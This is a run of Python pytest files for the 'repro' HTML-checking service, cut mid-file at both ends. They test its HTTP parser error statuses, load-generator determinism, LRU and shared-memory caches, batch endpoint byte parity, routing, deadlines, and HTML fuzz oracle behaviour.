                return True
            return False

        assert run(go()) is True
