"""The HTTP/1.1 parser: every malformed input maps to a typed status."""
import asyncio

import pytest

from repro.service import HTTPError, Request, Response, json_response
from repro.service.http import read_request


def parse(raw: bytes, **kwargs):
    """Drive read_request over a fed-and-closed stream."""

    async def go():
        reader = asyncio.StreamReader()
        reader.feed_data(raw)
        reader.feed_eof()
        return await read_request(reader, **kwargs)

    return asyncio.run(go())


def parse_error(raw: bytes, **kwargs) -> HTTPError:
    with pytest.raises(HTTPError) as excinfo:
        parse(raw, **kwargs)
    return excinfo.value


class TestRequestLine:
    def test_simple_get(self):
        request = parse(b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n")
        assert request.method == "GET"
        assert request.path == "/healthz"
        assert request.headers["host"] == "x"
        assert request.body == b""

    def test_query_parsing(self):
        request = parse(
            b"GET /check?url=http%3A%2F%2Fa%2F&context=td HTTP/1.1\r\n\r\n"
        )
        assert request.path == "/check"
        assert request.query == {"url": "http://a/", "context": "td"}

    def test_clean_eof_is_none(self):
        assert parse(b"") is None

    def test_truncated_head_is_400(self):
        assert parse_error(b"GET /x HTTP/1.1\r\nhost").status == 400

    def test_malformed_request_line_is_400(self):
        assert parse_error(b"NONSENSE\r\n\r\n").status == 400

    def test_unknown_protocol_is_400(self):
        assert parse_error(b"GET / HTTP/9.9\r\n\r\n").status == 400

    def test_unimplemented_method_is_501_keep_alive(self):
        error = parse_error(b"DELETE /check HTTP/1.1\r\n\r\n")
        assert error.status == 501
        assert error.close is False  # framing intact: connection survives


class TestHeaders:
    def test_header_names_lowercased_values_stripped(self):
        request = parse(b"GET / HTTP/1.1\r\nX-Thing:  padded  \r\n\r\n")
        assert request.headers["x-thing"] == "padded"

    def test_malformed_header_line_is_400(self):
        assert parse_error(b"GET / HTTP/1.1\r\nno-colon-here\r\n\r\n").status == 400

    def test_oversized_head_is_413(self):
        raw = b"GET / HTTP/1.1\r\nx: " + b"a" * 200 + b"\r\n\r\n"
        assert parse_error(raw, max_header=64).status == 413

    def test_chunked_is_501(self):
        raw = (
            b"POST /check HTTP/1.1\r\ntransfer-encoding: chunked\r\n\r\n"
        )
        assert parse_error(raw).status == 501


class TestBody:
    def test_post_with_body(self):
        request = parse(
            b"POST /check HTTP/1.1\r\ncontent-length: 5\r\n\r\nhello"
        )
        assert request.body == b"hello"

    def test_post_without_length_is_411_keep_alive(self):
        error = parse_error(b"POST /check HTTP/1.1\r\n\r\n")
        assert error.status == 411
        assert error.close is False

    def test_bad_length_is_400(self):
        raw = b"POST /check HTTP/1.1\r\ncontent-length: nope\r\n\r\nx"
        assert parse_error(raw).status == 400

    def test_negative_length_is_400(self):
        raw = b"POST /check HTTP/1.1\r\ncontent-length: -3\r\n\r\n"
        assert parse_error(raw).status == 400

    def test_oversize_body_is_413_and_closes(self):
        raw = b"POST /check HTTP/1.1\r\ncontent-length: 100\r\n\r\n"
        error = parse_error(raw, max_body=10)
        assert error.status == 413
        assert error.close is True  # unread body: framing is gone

    def test_body_shorter_than_length_is_400(self):
        raw = b"POST /check HTTP/1.1\r\ncontent-length: 50\r\n\r\nshort"
        assert parse_error(raw).status == 400


class TestKeepAlive:
    def test_http11_default_keep_alive(self):
        request = parse(b"GET / HTTP/1.1\r\n\r\n")
        assert request.keep_alive is True

    def test_http11_connection_close(self):
        request = parse(b"GET / HTTP/1.1\r\nconnection: Close\r\n\r\n")
        assert request.keep_alive is False

    def test_http10_default_close(self):
        request = parse(b"GET / HTTP/1.0\r\n\r\n")
        assert request.keep_alive is False

    def test_http10_explicit_keep_alive(self):
        request = parse(b"GET / HTTP/1.0\r\nconnection: keep-alive\r\n\r\n")
        assert request.keep_alive is True


class TestResponse:
    def test_to_bytes_sets_length_and_type(self):
        raw = Response(status=200, body=b"{}").to_bytes()
        head, _, body = raw.partition(b"\r\n\r\n")
        assert body == b"{}"
        assert b"content-length: 2" in head
        assert b"application/json" in head

    def test_close_header(self):
        raw = Response(status=200).to_bytes(close=True)
        assert b"connection: close" in raw

    def test_head_only_omits_body_keeps_length(self):
        raw = Response(status=200, body=b"abcd").to_bytes(head_only=True)
        assert raw.endswith(b"\r\n\r\n")
        assert b"content-length: 4" in raw

    def test_json_response_deterministic(self):
        a = json_response(200, {"b": 1, "a": 2}).body
        b = json_response(200, {"a": 2, "b": 1}).body
        assert a == b == b'{"a":2,"b":1}'

    def test_request_default_path(self):
        request = Request(
            method="GET", target="", version="HTTP/1.1", headers={}
        )
        assert request.path == "/"


class TestStreamingFraming:
    """Chunked response framing for the NDJSON batch endpoint."""

    @staticmethod
    def streaming(**kwargs):
        from repro.service import StreamingResponse

        async def lines():
            yield b""

        return StreamingResponse(status=200, lines=lines(), **kwargs)

    def test_encode_chunk_is_hex_size_crlf_framed(self):
        from repro.service.http import LAST_CHUNK, encode_chunk

        assert encode_chunk(b"abc") == b"3\r\nabc\r\n"
        assert encode_chunk(b"x" * 26) == b"1a\r\n" + b"x" * 26 + b"\r\n"
        assert LAST_CHUNK == b"0\r\n\r\n"

    def test_chunked_head_has_no_content_length(self):
        head = self.streaming().head_bytes(chunked=True)
        assert head.startswith(b"HTTP/1.1 200 OK\r\n")
        assert head.endswith(b"\r\n\r\n")
        assert b"transfer-encoding: chunked" in head
        assert b"content-length" not in head
        assert b"application/x-ndjson" in head
        assert b"connection: close" not in head  # keep-alive survives

    def test_unchunked_head_forces_close(self):
        # HTTP/1.0 has no chunked framing: body is close-delimited
        head = self.streaming().head_bytes(chunked=False)
        assert b"transfer-encoding" not in head
        assert b"connection: close" in head

    def test_explicit_close_requested(self):
        head = self.streaming().head_bytes(chunked=True, close=True)
        assert b"transfer-encoding: chunked" in head
        assert b"connection: close" in head
