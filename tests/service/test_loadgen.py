"""Loadgen determinism: same seed+config => the identical request plan."""
from repro.service.loadgen import (
    LoadgenConfig,
    build_corpus,
    build_schedule,
    quantile,
    render_loadgen,
    request_bytes,
)


class TestScheduleDeterminism:
    def test_same_seed_same_schedule(self):
        a = build_schedule(200, 2.0, seed=42, corpus_size=16)
        b = build_schedule(200, 2.0, seed=42, corpus_size=16)
        assert a == b
        assert len(a) > 0

    def test_different_seed_different_schedule(self):
        a = build_schedule(200, 2.0, seed=42, corpus_size=16)
        b = build_schedule(200, 2.0, seed=43, corpus_size=16)
        assert a != b

    def test_different_rps_different_schedule(self):
        a = build_schedule(100, 2.0, seed=42, corpus_size=16)
        b = build_schedule(200, 2.0, seed=42, corpus_size=16)
        assert a != b
        # twice the rate should offer roughly twice the arrivals
        assert len(b) > len(a)

    def test_schedule_shape(self):
        schedule = build_schedule(300, 1.5, seed=7, corpus_size=4)
        offsets = [offset for offset, _doc in schedule]
        assert offsets == sorted(offsets)
        assert all(0.0 < offset < 1.5 for offset in offsets)
        assert {doc for _offset, doc in schedule} <= set(range(4))
        # Poisson at 300/s over 1.5s: ~450 arrivals, generously bracketed
        assert 300 < len(schedule) < 600

    def test_corpus_deterministic_and_distinct(self):
        a = build_corpus(6, seed=42)
        b = build_corpus(6, seed=42)
        assert a == b
        assert len(set(a)) == 6
        assert all(doc.startswith(b"<!DOCTYPE html>") for doc in a)
        assert build_corpus(6, seed=1) != a

    def test_identical_request_sequence_end_to_end(self):
        # the full request plan -- framed bytes in schedule order -- is a
        # pure function of (seed, rps, duration, distinct)
        def plan(seed):
            corpus = build_corpus(4, seed=seed)
            schedule = build_schedule(150, 1.0, seed=seed, corpus_size=4)
            return [
                request_bytes(corpus[doc], keepalive=True)
                for _offset, doc in schedule
            ]

        assert plan(9) == plan(9)
        assert plan(9) != plan(10)


class TestRequestFraming:
    def test_keepalive_request_has_no_close(self):
        raw = request_bytes(b"<html>", keepalive=True)
        head, _, body = raw.partition(b"\r\n\r\n")
        assert head.startswith(b"POST /check HTTP/1.1\r\n")
        assert b"content-length: 6" in head
        assert b"connection: close" not in head
        assert body == b"<html>"

    def test_per_connection_request_closes(self):
        raw = request_bytes(b"x", keepalive=False)
        assert b"connection: close" in raw


class TestQuantile:
    def test_nearest_rank(self):
        values = [1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0]
        assert quantile(values, 0.50) == 5.0
        assert quantile(values, 0.90) == 9.0
        assert quantile(values, 0.99) == 10.0

    def test_empty_and_single(self):
        assert quantile([], 0.5) == 0.0
        assert quantile([3.5], 0.99) == 3.5


class TestRendering:
    def test_render_snapshot_table(self):
        snapshot = {
            "schema": "repro-bench/1",
            "label": "unit",
            "loadgen": {
                "keepalive": True,
                "connections": 4,
                "distinct": 8,
                "server": {"procs": 2, "shared_cache": True},
                "steps": [{
                    "target_rps": 100,
                    "offered_rps": 99.0,
                    "achieved_rps": 98.5,
                    "completed": 197,
                    "errors": 0,
                    "shed": 0,
                    "cache_hits": 197,
                    "latency_ms": {"p50": 1.2, "p90": 2.4, "p99": 4.8},
                }],
                "server_metrics": {
                    "connections": {
                        "total": 4, "reused": 4, "keepalive_reuses": 190,
                    },
                },
            },
        }
        text = render_loadgen(snapshot)
        assert "[unit]" in text
        assert "keep-alive" in text
        assert "procs=2" in text
        assert "98.5" in text
        assert "100.0" in text  # hit%
        assert "190 keep-alive requests" in text

    def test_config_defaults_are_sane(self):
        config = LoadgenConfig()
        assert config.keepalive and config.warmup
        assert all(rps > 0 for rps in config.steps)
