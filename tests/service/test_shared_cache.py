"""SharedResultCache: exact-LRU parity and cross-process consistency.

The single-process :class:`ResultCache` is the machine-checked reference:
a randomized op sequence is applied to both implementations and the LRU
order, the counters, and every lookup result must match move for move.
The multi-process test then hammers one segment from several forked
workers and asserts the invariants locking is supposed to buy: counters
that add up, no torn values, entry count within capacity.
"""
import multiprocessing
import random

import pytest

from repro.service import ResultCache, make_cache
from repro.service.shared_cache import SharedResultCache


@pytest.fixture
def cache():
    shared = SharedResultCache.create(4, slot_size=256)
    yield shared
    shared.close()


class TestBasics:
    def test_get_put_roundtrip(self, cache):
        assert cache.get("k") is None
        cache.put("k", (200, b'{"a":1}'))
        assert cache.get("k") == (200, b'{"a":1}')
        assert len(cache) == 1
        stats = cache.stats
        assert (stats.hits, stats.misses) == (1, 1)

    def test_put_overwrites_value(self, cache):
        cache.put("k", (200, b"first"))
        cache.put("k", (422, b"second"))
        assert cache.get("k") == (422, b"second")
        assert len(cache) == 1

    def test_clear_keeps_counters(self, cache):
        cache.put("k", (200, b"v"))
        cache.get("k")
        cache.get("absent")
        cache.clear()
        assert len(cache) == 0
        assert cache.get("k") is None
        stats = cache.stats
        assert (stats.hits, stats.misses) == (1, 2)

    def test_oversize_value_is_skipped_not_stored(self, cache):
        cache.put("big", (200, b"x" * 257))
        assert cache.get("big") is None
        assert cache.skipped_oversize == 1

    def test_oversize_put_drops_stale_entry(self, cache):
        # a value that outgrew its slot must not leave the old body
        # behind -- a hit serving stale bytes is the one forbidden outcome
        cache.put("k", (200, b"old"))
        cache.put("k", (200, b"y" * 300))
        assert cache.get("k") is None
        assert len(cache) == 0

    def test_attach_sees_owner_writes(self, cache):
        cache.put("k", (200, b"v"))
        other = SharedResultCache.attach(cache.path)
        try:
            assert other.get("k") == (200, b"v")
        finally:
            other.close()

    def test_owner_close_unlinks_file(self):
        import os

        shared = SharedResultCache.create(2)
        path = shared.path
        shared.close()
        assert not os.path.exists(path)

    def test_attach_rejects_non_segment(self, tmp_path):
        bogus = tmp_path / "not-a-segment"
        bogus.write_bytes(b"x" * 128)
        with pytest.raises(ValueError):
            SharedResultCache.attach(str(bogus))

    def test_make_cache_dispatch(self, tmp_path):
        assert isinstance(make_cache(8), ResultCache)
        assert isinstance(make_cache(0, backend="shared"), ResultCache)
        shared = make_cache(8, backend="shared")
        try:
            assert isinstance(shared, SharedResultCache)
        finally:
            shared.close()
        with pytest.raises(ValueError):
            make_cache(8, backend="galactic")


class TestLRUParity:
    """Randomized differential test against the ResultCache reference."""

    CAPACITY = 5

    def reference_order(self, reference: ResultCache) -> list[bytes]:
        return [
            SharedResultCache.digest_of(key)
            for key in reference._entries  # noqa: SLF001 - reference probe
        ]

    @pytest.mark.parametrize("seed", [7, 21, 1057])
    def test_same_ops_same_state(self, seed):
        rng = random.Random(seed)
        keys = [f"key-{i}" for i in range(self.CAPACITY * 2)]
        reference = ResultCache(self.CAPACITY)
        shared = SharedResultCache.create(self.CAPACITY, slot_size=128)
        try:
            for step in range(400):
                key = rng.choice(keys)
                if rng.random() < 0.5:
                    entry = (
                        rng.choice((200, 422)),
                        f"body-{key}-{step}".encode(),
                    )
                    reference.put(key, entry)
                    shared.put(key, entry)
                else:
                    assert shared.get(key) == reference.get(key)
                assert len(shared) == len(reference)
                assert shared.lru_digests() == self.reference_order(reference)
            ref_stats, shared_stats = reference.stats, shared.stats
            assert shared_stats.hits == ref_stats.hits
            assert shared_stats.misses == ref_stats.misses
            assert shared_stats.evictions == ref_stats.evictions
        finally:
            shared.close()

    def test_eviction_pops_oldest(self):
        shared = SharedResultCache.create(2, slot_size=64)
        try:
            shared.put("a", (200, b"A"))
            shared.put("b", (200, b"B"))
            shared.get("a")          # refresh: "b" is now oldest
            shared.put("c", (200, b"C"))
            assert shared.get("b") is None
            assert shared.get("a") == (200, b"A")
            assert shared.get("c") == (200, b"C")
            assert shared.stats.evictions == 1
        finally:
            shared.close()


def _hammer(path: str, worker: int, ops: int) -> tuple[int, int]:
    """One child's workload; returns (gets issued, torn reads seen).

    Values encode their key, so any cross-process interleaving bug that
    serves bytes for the wrong key (or a half-written value) is a torn
    read, not a silent pass.
    """
    cache = SharedResultCache.attach(path)
    rng = random.Random(f"hammer:{worker}")
    gets = torn = 0
    try:
        for step in range(ops):
            key = f"shared-{rng.randrange(12)}"
            if rng.random() < 0.5:
                cache.put(key, (200, f"value:{key}".encode() * 3))
            else:
                gets += 1
                entry = cache.get(key)
                if entry is not None and entry[1] != (
                    f"value:{key}".encode() * 3
                ):
                    torn += 1
    finally:
        cache.close()
    return gets, torn


def _hammer_child(path: str, worker: int, ops: int, queue) -> None:
    queue.put(_hammer(path, worker, ops))


class TestMultiProcess:
    def test_concurrent_hammer_consistent(self):
        ops, workers = 150, 4
        shared = SharedResultCache.create(8, slot_size=128)
        ctx = multiprocessing.get_context("fork")
        queue = ctx.Queue()
        try:
            children = [
                # each child re-attaches by path: flock is per open file
                # description, so an inherited descriptor would not lock
                ctx.Process(
                    target=_hammer_child, args=(shared.path, i, ops, queue)
                )
                for i in range(workers)
            ]
            for child in children:
                child.start()
            results = [queue.get(timeout=60) for _ in children]
            for child in children:
                child.join(timeout=60)
                assert child.exitcode == 0

            total_gets = sum(gets for gets, _torn in results)
            assert sum(torn for _gets, torn in results) == 0
            stats = shared.stats
            # every get is exactly one hit or one miss, no double counts
            assert stats.hits + stats.misses == total_gets
            assert 0 < len(shared) <= 8
            assert len(shared.lru_digests()) == len(shared)
            # the surviving entries still serve un-torn values
            for _ in range(50):
                for i in range(12):
                    key = f"shared-{i}"
                    entry = shared.get(key)
                    if entry is not None:
                        assert entry[1] == f"value:{key}".encode() * 3
        finally:
            shared.close()
