"""Content-hash LRU cache: key identity, eviction order, counters."""
from repro.service import ResultCache, content_key


class TestContentKey:
    def test_same_inputs_same_key(self):
        assert content_key("/check", "url=x", b"<p>") == content_key(
            "/check", "url=x", b"<p>"
        )

    def test_endpoint_distinguishes(self):
        assert content_key("/check", "", b"<p>") != content_key(
            "/fix", "", b"<p>"
        )

    def test_options_distinguish(self):
        assert content_key("/check", "url=a", b"<p>") != content_key(
            "/check", "url=b", b"<p>"
        )

    def test_no_concatenation_collisions(self):
        # without length prefixes these two would hash identical streams
        assert content_key("/check", "ab", b"c") != content_key(
            "/check", "a", b"bc"
        )
        assert content_key("/checka", "", b"") != content_key(
            "/check", "a", b""
        )


class TestResultCache:
    def test_miss_then_hit(self):
        cache = ResultCache(4)
        key = content_key("/check", "", b"doc")
        assert cache.get(key) is None
        cache.put(key, (200, b"{}"))
        assert cache.get(key) == (200, b"{}")
        assert cache.stats.misses == 1
        assert cache.stats.hits == 1
        assert cache.stats.hit_rate == 0.5

    def test_eviction_is_lru_ordered(self):
        cache = ResultCache(2)
        cache.put("a", (200, b"a"))
        cache.put("b", (200, b"b"))
        assert cache.get("a") is not None  # touch a: b is now oldest
        cache.put("c", (200, b"c"))
        assert cache.get("b") is None
        assert cache.get("a") is not None
        assert cache.get("c") is not None
        assert cache.stats.evictions == 1

    def test_put_refreshes_recency(self):
        cache = ResultCache(2)
        cache.put("a", (200, b"1"))
        cache.put("b", (200, b"2"))
        cache.put("a", (200, b"3"))  # rewrite refreshes a, b is oldest
        cache.put("c", (200, b"4"))
        assert cache.get("b") is None
        assert cache.get("a") == (200, b"3")

    def test_zero_capacity_disables(self):
        cache = ResultCache(0)
        cache.put("a", (200, b"a"))
        assert len(cache) == 0
        assert cache.get("a") is None
        assert cache.stats.evictions == 0

    def test_clear(self):
        cache = ResultCache(4)
        cache.put("a", (200, b"a"))
        cache.clear()
        assert len(cache) == 0
        assert cache.get("a") is None
