"""/check-batch: byte-parity with single requests, ordering, limits."""
import base64
import json
import random

import pytest

from repro.service import ServiceApp, ServiceConfig
from repro.service.app import post
from repro.service.batch import batch_items, frame_line, parse_batch_line

GOOD = (
    "<!DOCTYPE html><html><head><title>t</title></head>"
    "<body><p>hello</p></body></html>"
)
DIRTY = "<html><body><p>no doctype<div></p></div></body></html>"
NON_UTF8 = b"\xff\xfe <html>invalid bytes</html>"


def app(**overrides) -> ServiceApp:
    return ServiceApp(ServiceConfig(cache_size=32, **overrides))


def line(html: str | None = None, *, raw: bytes | None = None,
         url: str = "") -> bytes:
    obj: dict = {}
    if html is not None:
        obj["html"] = html
    if raw is not None:
        obj["body_b64"] = base64.b64encode(raw).decode("ascii")
    if url:
        obj["url"] = url
    return json.dumps(obj).encode("utf-8")


def run_batch(service: ServiceApp, lines: list[bytes]):
    body = b"\n".join(lines) + b"\n"
    response = service.handle_sync(post("/check-batch", body))
    return response, [ln for ln in response.body.split(b"\n") if ln]


class TestByteParity:
    def test_each_line_matches_single_response_bytes(self):
        # 200s and a 422 interleaved: every framed result must be the
        # *byte-identical* single-request response body
        service = app()
        inputs = [
            (GOOD.encode(), "http://a/"),
            (NON_UTF8, "http://b/"),
            (DIRTY.encode(), ""),
            (GOOD.encode(), "http://a/"),  # duplicate: served from cache
        ]
        lines = [line(raw=body, url=url) for body, url in inputs]
        response, out = run_batch(service, lines)
        assert response.status == 200
        assert "ndjson" in response.headers["content-type"]
        assert len(out) == len(inputs)

        fresh = app()  # separate app: no cache coupling with the batch run
        for index, (body, url) in enumerate(inputs):
            single = fresh.handle_sync(post("/check", body, url=url))
            expected = (
                b'{"index":%d,"status":%d,"result":'
                % (index, single.status)
                + single.body + b"}"
            )
            assert out[index] == expected

    def test_mixed_good_bad_corpus_replay(self):
        # a seeded corpus of good, dirty, undecodable, and malformed
        # lines replayed through batch and single paths line by line
        rng = random.Random(1347)
        lines = []
        kinds = []
        for index in range(24):
            kind = rng.choice(("good", "dirty", "non-utf8", "malformed"))
            kinds.append(kind)
            if kind == "good":
                lines.append(line(GOOD, url=f"http://g{index % 3}/"))
            elif kind == "dirty":
                lines.append(line(DIRTY, url=f"http://d{index % 2}/"))
            elif kind == "non-utf8":
                lines.append(line(raw=NON_UTF8 + bytes([index])))
            else:
                lines.append(b"{malformed json" + bytes([48 + index % 10]))
        service = app()
        _response, out = run_batch(service, lines)
        assert len(out) == len(lines)

        fresh = app()
        for index, raw in enumerate(lines):
            framed = json.loads(out[index])
            assert framed["index"] == index
            parsed = parse_batch_line(raw)
            if isinstance(parsed, tuple):
                body, url = parsed
                single = fresh.handle_sync(post("/check", body, url=url))
                assert framed["status"] == single.status
                assert out[index].endswith(single.body + b"}")
            else:
                assert framed["status"] == 400
        expected_statuses = {
            "good": 200, "dirty": 200, "non-utf8": 422, "malformed": 400,
        }
        for kind, raw_out in zip(kinds, out):
            assert json.loads(raw_out)["status"] == expected_statuses[kind]


class TestOrderingAndWindow:
    def test_results_stream_in_submission_order(self):
        service = app()
        lines = [line(GOOD, url=f"http://p{i}/") for i in range(17)]
        _response, out = run_batch(service, lines)
        assert [json.loads(ln)["index"] for ln in out] == list(range(17))

    @pytest.mark.parametrize("window", [1, 2, 64])
    def test_window_size_never_changes_results(self, window):
        lines = [line(GOOD), b"junk", line(raw=NON_UTF8), line(DIRTY)]
        _response, out = run_batch(app(batch_window=window), lines)
        _response2, reference = run_batch(app(batch_window=8), lines)
        assert out == reference

    def test_blank_lines_are_skipped(self):
        body = b"\n\n" + line(GOOD) + b"\n\n  \n" + line(DIRTY) + b"\n\n"
        assert len(batch_items(body)) == 2
        service = app()
        response = service.handle_sync(post("/check-batch", body))
        out = [ln for ln in response.body.split(b"\n") if ln]
        assert [json.loads(ln)["index"] for ln in out] == [0, 1]


class TestLimits:
    def test_too_many_lines_is_413(self):
        service = app(max_batch_lines=2)
        lines = [line(GOOD)] * 3
        response, _out = run_batch(service, lines)
        assert response.status == 413
        assert service.metrics.batch_requests == 0  # rejected before fan-out

    def test_oversized_body_is_413(self):
        service = app(max_body=64)
        response = service.handle_sync(post("/check-batch", b"x" * 65))
        assert response.status == 413

    def test_batch_metrics_recorded(self):
        service = app()
        run_batch(service, [line(GOOD), line(DIRTY)])
        assert service.metrics.batch_requests == 1
        assert service.metrics.batch_lines == 2


class TestLineParsing:
    @pytest.mark.parametrize("raw, detail", [
        (b"\xff not json", "malformed"),
        (b"[1, 2]", "object"),
        (b"{}", "exactly one"),
        (b'{"html": "a", "body_b64": "YQ=="}', "exactly one"),
        (b'{"html": 5}', "string"),
        (b'{"body_b64": "%%%"}', "base64"),
        (b'{"html": "a", "url": 7}', "url"),
    ])
    def test_malformed_lines_become_400(self, raw, detail):
        result = parse_batch_line(raw)
        assert not isinstance(result, tuple)
        assert result.status == 400
        assert detail.encode() in result.body.lower()

    def test_html_and_b64_roundtrip(self):
        assert parse_batch_line(line("abc", url="http://x/")) == (
            b"abc", "http://x/"
        )
        assert parse_batch_line(line(raw=b"\xff\x00")) == (b"\xff\x00", "")

    def test_frame_line_is_one_ndjson_line(self):
        from repro.service.http import json_response

        framed = frame_line(3, json_response(200, {"a": "b\nc"}))
        assert framed.count(b"\n") == 1 and framed.endswith(b"\n")
        parsed = json.loads(framed)
        assert parsed == {"index": 3, "status": 200,
                          "result": {"a": "b\nc"}}
