"""ServiceApp routing, caching, admission, deadlines — all inline, no pool."""
import json
from concurrent.futures import Executor, Future

import pytest

from repro.core import Checker
from repro.service import ServiceApp, ServiceConfig, get, post
from repro.service.workers import report_payload

PAGE = b"<!DOCTYPE html><html><head><title>t</title></head><body><p>hi</p></body></html>"
DIRTY = b"<p>text<form><p><form><p>nested</p></form></form>"
NOT_UTF8 = b"\xff\xfe broken \x81"


@pytest.fixture
def app():
    return ServiceApp(ServiceConfig(cache_size=8, max_body=4096))


def body_of(response) -> dict:
    return json.loads(response.body.decode("utf-8"))


class TestRouting:
    def test_healthz(self, app):
        response = app.handle_sync(get("/healthz"))
        assert response.status == 200
        payload = body_of(response)
        assert payload["status"] == "ok"
        assert payload["inline"] is True

    def test_unknown_path_404(self, app):
        assert app.handle_sync(get("/nope")).status == 404

    def test_cpu_endpoint_requires_post(self, app):
        response = app.handle_sync(get("/check"))
        assert response.status == 405
        assert response.headers["allow"] == "POST"

    def test_healthz_rejects_post(self, app):
        response = app.handle_sync(post("/healthz", b""))
        assert response.status == 405
        assert response.headers["allow"] == "GET, HEAD"

    def test_metrics_route(self, app):
        app.handle_sync(post("/check", PAGE))
        payload = body_of(app.handle_sync(get("/metrics")))
        # the /metrics request has already counted itself by snapshot time
        assert payload["requests_total"] == 2
        assert payload["requests_by_endpoint"] == {"/check": 1, "/metrics": 1}


class TestCheckEndpoint:
    def test_parity_with_direct_checker(self, app):
        response = app.handle_sync(
            post("/check", DIRTY, url="http://t.example/")
        )
        assert response.status == 200
        direct = Checker().check_html(
            DIRTY.decode("utf-8"), url="http://t.example/"
        )
        assert body_of(response) == report_payload(direct)

    def test_non_utf8_is_422(self, app):
        response = app.handle_sync(post("/check", NOT_UTF8))
        assert response.status == 422
        assert body_of(response)["error"] == "undecodable-body"
        assert app.metrics.decode_failures == 1

    def test_oversize_body_is_413(self, app):
        response = app.handle_sync(post("/check", b"x" * 5000))
        assert response.status == 413

    def test_fix_endpoint_shape(self, app):
        response = app.handle_sync(post("/fix", DIRTY))
        assert response.status == 200
        payload = body_of(response)
        assert set(payload) == {
            "url", "fixed", "changed", "repaired", "remaining",
            "repaired_count", "remaining_count",
        }

    def test_fragment_context_changes_result_identity(self, app):
        first = app.handle_sync(
            post("/check-fragment", b"<td>x</td>", context="tr")
        )
        second = app.handle_sync(
            post("/check-fragment", b"<td>x</td>", context="div")
        )
        assert first.status == second.status == 200
        # different context = different cache key: both were misses
        assert app.metrics.cache_misses == 2
        assert app.metrics.cache_hits == 0


class TestCaching:
    def test_miss_then_hit_same_payload(self, app):
        first = app.handle_sync(post("/check", DIRTY))
        second = app.handle_sync(post("/check", DIRTY))
        assert first.headers["x-cache"] == "miss"
        assert second.headers["x-cache"] == "hit"
        assert first.body == second.body
        assert app.metrics.cache_hits == 1

    def test_422_is_cached_too(self, app):
        app.handle_sync(post("/check", NOT_UTF8))
        repeat = app.handle_sync(post("/check", NOT_UTF8))
        assert repeat.status == 422
        assert repeat.headers["x-cache"] == "hit"

    def test_url_option_busts_cache(self, app):
        app.handle_sync(post("/check", PAGE, url="http://a/"))
        other = app.handle_sync(post("/check", PAGE, url="http://b/"))
        assert other.headers["x-cache"] == "miss"


class TestAdmission:
    def test_full_queue_is_429_with_retry_after(self, app):
        app.metrics.queue_depth = app.config.queue_limit
        response = app.handle_sync(post("/check", PAGE))
        assert response.status == 429
        assert response.headers["retry-after"] == str(app.config.retry_after)
        assert app.metrics.rejected_overload == 1
        app.metrics.queue_depth = 0

    def test_429_is_not_cached(self, app):
        app.metrics.queue_depth = app.config.queue_limit
        app.handle_sync(post("/check", PAGE))
        app.metrics.queue_depth = 0
        relief = app.handle_sync(post("/check", PAGE))
        assert relief.status == 200

    def test_queue_depth_returns_to_zero(self, app):
        app.handle_sync(post("/check", PAGE))
        assert app.metrics.queue_depth == 0
        assert app.metrics.queue_high_water == 1


class _NeverFinishes(Executor):
    """An executor whose jobs never start — forces the deadline path."""

    def submit(self, fn, /, *args, **kwargs):
        return Future()


class TestDeadline:
    def test_deadline_exceeded_is_503(self):
        config = ServiceConfig(deadline=0.01, cache_size=8)
        app = ServiceApp(config, executor=_NeverFinishes())
        response = app.handle_sync(post("/check", PAGE))
        assert response.status == 503
        assert response.headers["retry-after"] == str(config.retry_after)
        assert app.metrics.deadline_timeouts == 1
        assert app.metrics.queue_depth == 0

    def test_timeout_result_is_not_cached(self):
        app = ServiceApp(
            ServiceConfig(deadline=0.01, cache_size=8),
            executor=_NeverFinishes(),
        )
        app.handle_sync(post("/check", PAGE))
        assert len(app.cache) == 0


class TestInternalErrors:
    def test_handler_bug_maps_to_500(self, app, monkeypatch):
        from repro.service import workers

        def boom(body, url):
            raise RuntimeError("synthetic handler bug")

        monkeypatch.setattr(workers, "run_check", boom)
        response = app.handle_sync(post("/check", PAGE))
        assert response.status == 500
        assert app.metrics.internal_errors == 1
        # the failure is visible in /metrics, not swallowed
        snapshot = body_of(app.handle_sync(get("/metrics")))
        assert snapshot["internal_errors"] == 1
