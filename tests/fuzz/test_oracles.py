"""Oracle semantics: pass, property violation, skip, and bucketing."""
from __future__ import annotations

import pytest

from repro.fuzz.bucketing import Bucket, bucket_for, top_repro_frame
from repro.fuzz.minimize import minimize
from repro.fuzz.oracles import (
    BATCH_ORACLES,
    ORACLES,
    OracleFailure,
    SkipInput,
    parallel_equivalence,
)


@pytest.mark.parametrize("name", sorted(ORACLES))
def test_oracles_pass_on_plain_document(name):
    ORACLES[name].run(b"<!doctype html><html><head></head><body>ok</body></html>")


@pytest.mark.parametrize("name", sorted(ORACLES))
def test_html_oracles_skip_non_utf8(name):
    if name in ("warc", "cdx", "bytes_parity"):
        # byte-level oracles take anything; bytes_parity specifically
        # asserts the bytes tokenizer *rejects* non-UTF-8 instead of
        # skipping it (see oracle_bytes_parity's contract)
        ORACLES[name].run(b"\xff\xfe\x00")
    else:
        with pytest.raises(SkipInput):
            ORACLES[name].run(b"\xff\xfe\x00")


def test_roundtrip_skips_spec_lossy_plaintext():
    with pytest.raises(SkipInput):
        ORACLES["roundtrip"].run(b"<plaintext>x")


def test_roundtrip_skips_raw_text_retokenization():
    # the mXSS-style lossiness: serialized script text re-tokenizes
    with pytest.raises(SkipInput):
        ORACLES["roundtrip"].run(b"<style><!--</style>--></style>")


def test_roundtrip_skips_cr_from_character_reference():
    with pytest.raises(SkipInput):
        ORACLES["roundtrip"].run(b">&#xD")


def test_roundtrip_accepts_foster_parenting_fixpoint():
    # nobr-in-nobr via foster parenting: non-reparseable but convergent
    with pytest.raises(SkipInput):
        ORACLES["roundtrip"].run(b"<nobr><table><nobr>")


def test_roundtrip_holds_on_deep_nesting():
    ORACLES["roundtrip"].run(b"<i>" * 1500)


def test_tokenize_budget_catches_a_looping_tokenizer():
    # the budget is linear in input length; a crafted pass-through shows
    # the oracle accepts dense-but-linear token streams
    ORACLES["tokenize"].run(b"<b>" * 2000)


def test_oracle_failure_buckets_by_detail_code():
    failure = OracleFailure("some-stable-code", "longer message")
    bucket = bucket_for("roundtrip", failure)
    assert bucket == Bucket("roundtrip", "OracleFailure", "some-stable-code")
    assert bucket.label == "roundtrip/OracleFailure@some-stable-code"


def test_crash_buckets_by_type_and_repro_frame():
    try:
        ORACLES["cdx"]  # anchor: raise from inside repro code
        from repro.warc.cdx import CDXEntry, CDXFormatError

        try:
            CDXEntry.from_line("nope")
        except CDXFormatError as exc:
